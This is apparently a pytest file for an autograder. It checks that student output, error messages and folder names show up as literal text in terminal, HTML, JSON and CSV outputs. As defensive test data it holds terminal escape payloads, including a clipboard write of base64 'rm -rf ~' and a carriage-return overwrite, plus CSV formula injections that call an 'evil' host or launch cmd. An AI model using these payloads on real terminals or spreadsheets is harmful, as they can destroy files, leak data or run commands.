"""The student's code, messages and output are shown as they are in every front end:
rich markup (`[w, b]`, `[bold]`), backslashes and HTML are text, never formatting."""

import csv
import html
import io
import json
from pathlib import Path

import pytest
from rich.console import Console

from grader.frontends.watch import Watcher
from grader.instructor.records import StudentRecord, record
from grader.instructor.roster import Enrolled, Roster
from grader.instructor.sheets import write_canvas_csv, write_grades_csv
from grader.report.gradescope import gradescope_results
from grader.report.html import feedback_page
from grader.report.table import print_table
from grader.results import CheckResult, Feedback, Grade, Status
from grader.terminal import visible

MESSAGE = r"bad [w, b] \ [bold]x[/bold] \[red]y <b>z</b>"
CALL = "    sgd_step([w, b], lr)"
PRINTED = r"[bold]loud[/bold] a\b [/] [link=http://x]here[/link]"
TRICKY = (MESSAGE, CALL, PRINTED)
CLAIM = "updates w and b in place (w = 1, b = 2, grads 0.5 and -1, lr = 0.1)"


def tricky_grade(hidden: bool = False) -> Grade:
    """sgd_step raised with markup-like text; its traceback holds train's call; it printed some."""
    raised = Feedback("raised", {"type": "ValueError", "message": MESSAGE},
                      detail=f'  File "linear_regression.py", line 130, in train\n{CALL}')
    results = [CheckResult("sgd_step", CLAIM, "cpu", hidden, 3.0, 0.0, Status.ERROR, raised)]
    notice = Feedback("magics_dropped", {"module": "[bold]linear_regression[/bold]", "count": 1})
    return Grade(results, f"{PRINTED}\n", seed=1234, devices=["cpu"], seconds=0.5, notices=[notice])


def table_text(grade: Grade, lang: str = "en") -> str:
    console = Console(file=io.StringIO(), width=400)
    print_table(grade, lang, console)
    return console.file.getvalue()


def watcher_text(grade: Grade, lang: str = "en") -> str:
    console = Console(file=io.StringIO(), width=400)
    Watcher(Path("exercises"), lang, sandbox=None, console=console, keys=True, result=grade).show()  # type: ignore[arg-type]
    return console.file.getvalue()


def page_text(grade: Grade, lang: str = "en") -> str:
    return html.unescape(feedback_page(grade, lang, "Autograd"))


def json_text(grade: Grade, lang: str = "en") -> str:
    results = json.loads(json.dumps(gradescope_results(grade, lang)))
    return "\n".join([results["output"], *(test["output"] for test in results["tests"])])


FRONT_ENDS = {"table": table_text, "watcher": watcher_text, "page": page_text, "results.json": json_text}


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("front_end", FRONT_ENDS)
def test_the_students_text_is_shown_as_it_is(front_end, lang):
    shown = FRONT_ENDS[front_end](tricky_grade(), lang)
    printed = PRINTED if front_end in ("table", "watcher", "results.json") else ""  # the page shows no output
    for text in (MESSAGE, CALL, printed):
        assert text in shown, f"{front_end} changed {text!r}"


@pytest.mark.parametrize("front_end", ["table", "page"])
def test_notices_are_shown_as_they_are(front_end):
    assert "[bold]linear_regression[/bold]" in FRONT_ENDS[front_end](tricky_grade())


def test_the_page_escapes_html_from_the_student():
    page = feedback_page(tricky_grade(), "en", "Autograd")
    assert "<b>z</b>" not in page and "&lt;b&gt;z&lt;/b&gt;" in page


@pytest.mark.parametrize("front_end", ["table", "page"])
def test_the_seed_is_said_only_where_hidden_checks_drew_random_inputs(front_end):
    show = FRONT_ENDS[front_end]
    assert "1234" not in show(tricky_grade(hidden=False))
    assert "seed 1234 (replay with --seed 1234)" in show(tricky_grade(hidden=True))
    assert "随机种子 1234" in show(tricky_grade(hidden=True), "zh")


# What a hand-in can make a terminal do: set the clipboard (OSC 52), the window title, move
# the cursor and clear the screen, ring, overwrite a line (CR, BS), run a line backwards.
CONTROLS = {
    "clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07", "title": "\x1b]0;sudo make me\x07", "cursor": "\x1b[2A\x1b[2J",
    "overwrite": "rm -rf ~\rls", "backspace": "ok\x08\x08no", "c1 csi": "\x9b31m", "bidi": "\u202eevil", "nul": "\x00",
}


def controlled_grade() -> Grade:
    """Every control in the output, in an error message and in a notice."""
    codes = "".join(CONTROLS.values())
    raised = Feedback("raised", {"type": "ValueError", "message": f"bad {codes}"}, detail=f"  line 3\n{codes}")
    results = [CheckResult("sgd_step", CLAIM, "cpu", False, 3.0, 0.0, Status.ERROR, raised)]
    notice = Feedback("magics_dropped", {"module": codes, "count": 1})
    return Grade(results, f"printed {codes}\n\tindented\n", seed=1, devices=["cpu"], seconds=0.5, notices=[notice])


@pytest.mark.parametrize("front_end", ["table", "watcher"])
def test_control_characters_from_a_hand_in_reach_the_terminal_visible_not_obeyed(front_end):
    shown = FRONT_ENDS[front_end](controlled_grade())
    assert not [c for c in shown if c not in "\n\t" and (ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f or c == "\u202e")]
    for visible_form in (r"\x1b]52;c;cm0gLXJmIH4K\x07", r"\x1b]0;sudo make me", r"\x1b[2A", r"rm -rf ~\x0dls",
                         r"ok\x08\x08no", r"\x9b31m", r"\u202eevil", r"\x00"):
        assert visible_form in shown, f"{front_end} lost {visible_form}"
    assert "\n        indented" in shown  # a tab (expanded by rich) and a newline are the student's layout


def test_visible_keeps_text_and_layout_and_shows_each_control_as_its_escape():
    assert visible("王芳 [w, b]\n\tx = 1") == "王芳 [w, b]\n\tx = 1"
    assert visible("\x1b]52;c;eA==\x07") == r"\x1b]52;c;eA==\x07"
    assert visible("a\r\nb\x7f") == r"a\x0d" + "\n" + r"b\x7f"


# CSV injection: a student folder named like a formula lands in grades.csv and canvas.csv as text.
FORMULAS = ["=HYPERLINK(\"http://evil/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2"]


def student_record(tmp_path: Path, name: str, score: float) -> StudentRecord:
    results = {"score": score, "max_score": 56, "extra_data": {"student": name, "folder": name}}
    return record(results, tmp_path / name)


def csv_rows(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_formulas_in_names_are_written_as_text_and_numbers_as_numbers(tmp_path):
    records = [student_record(tmp_path, name, 56 - k) for k, name in enumerate([*FORMULAS, "ada", "王芳"])]
    people = (Enrolled(name, name, f"-{k}", f"=id{k}", f"@{k}.edu", "+A") for k, name in enumerate(FORMULAS))
    roster = Roster(tuple(people))
    write_grades_csv(records, tmp_path / "grades.csv", "en", roster)
    write_canvas_csv(records, tmp_path / "canvas.csv", roster, "=assignment")
    grades = {row[1]: row for row in csv_rows(tmp_path / "grades.csv")[1:]}
    for k, name in enumerate(FORMULAS):
        row = grades[f"'{name}"]
        assert row[:2] == [f"'{name}", f"'{name}"] and row[4:8] == [f"'-{k}", f"'@{k}.edu", f"{56 - k:g}", "56"]
    assert grades["ada"][:2] == ["ada", "ada"] and grades["王芳"][0] == "王芳"
    canvas = csv_rows(tmp_path / "canvas.csv")
    assert canvas[0][-1] == "'=assignment" and canvas[1][-1] == "56"
    assert all(cell.startswith("'") for row in canvas[2:] for cell in row[:5]) and canvas[2][5] == "56"
